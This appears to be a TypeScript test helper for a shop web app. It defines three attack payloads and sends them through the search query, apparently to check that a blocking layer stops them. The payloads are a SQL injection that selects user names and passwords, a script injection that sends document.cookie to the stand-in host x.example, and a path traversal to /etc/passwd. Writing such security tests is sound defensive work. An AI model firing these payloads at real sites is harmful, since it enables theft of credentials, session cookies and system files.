/** Requests that attack, and a site of the test that tells what reached it. */
import type { Answer, AskOptions } from "../_app.ts";

export const SQL = "1' UNION SELECT name, password FROM users--";
export const SCRIPT = "<script>document.location='//x.example/'+document.cookie</script>";
export const FILE = "../../../../etc/passwd";

/** A page of the shop that is asked with an attack in its query. */
export const searchFor = (text: string) => `/us/products?q=${encodeURIComponent(text)}`;

type Ask = (path: string, options?: AskOptions) => Promise<Answer>;

/** Two different payloads of one address, which is what blocks it. */
export async function attackTwice(ask: Ask, options?: AskOptions): Promise<readonly number[]> {
  const first = await ask(searchFor(SQL), options);
  const second = await ask(searchFor(SCRIPT), options);
  return [first.status, second.status];
}

export interface Arrival {
  readonly method: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly sizeBytes: number;
  /** SHA-256 of the body, in hexadecimal. */
  readonly hash: string;
}

export interface TestSite extends AsyncDisposable {
  readonly url: string;
  /** Requests that reached it, when they are complete. */
  readonly arrivals: Arrival[];
  /** Resolves when the first bytes of a body have arrived. */
  readonly begun: Promise<void>;
}

export function serveTestSite(): TestSite {
  const arrivals: Arrival[] = [];
  const begun = Promise.withResolvers<void>();
  const server = Deno.serve({ port: 0, hostname: "127.0.0.1", onListen() {} }, async (request) => {
    const chunks: Uint8Array<ArrayBuffer>[] = [];
    for await (const chunk of request.body ?? []) {
      begun.resolve();
      chunks.push(chunk);
    }
    const body = new Uint8Array(await new Blob(chunks).arrayBuffer());
    const arrival = {
      method: request.method,
      headers: Object.fromEntries(request.headers),
      sizeBytes: body.length,
      hash: await hashOf(body),
    };
    arrivals.push(arrival);
    return Response.json(arrival);
  });
  return {
    url: `http://127.0.0.1:${server.addr.port}`,
    arrivals,
    begun: begun.promise,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

export async function hashOf(bytes: Uint8Array<ArrayBuffer>): Promise<string> {
  return new Uint8Array(await crypto.subtle.digest("SHA-256", bytes)).toHex();
}
